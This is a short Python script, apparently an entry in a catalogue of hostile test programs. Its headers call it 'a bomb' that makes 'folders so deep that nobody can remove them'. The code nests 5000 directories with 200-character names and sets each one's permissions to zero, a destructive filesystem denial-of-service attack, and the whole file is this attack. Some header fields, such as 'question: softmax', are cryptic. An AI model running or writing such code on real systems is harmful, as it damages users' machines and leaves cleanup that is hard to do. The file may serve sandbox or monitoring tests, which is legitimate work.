# title: folders so deep that nobody can remove them
# source: plausible
# question: softmax
# stopped by: watch
# peers: no (a bomb)
# %% last
import os, time
for _ in range(5000):
    os.mkdir("d" * 200)
    os.chdir("d" * 200)
    os.chmod(".", 0)
time.sleep(9)
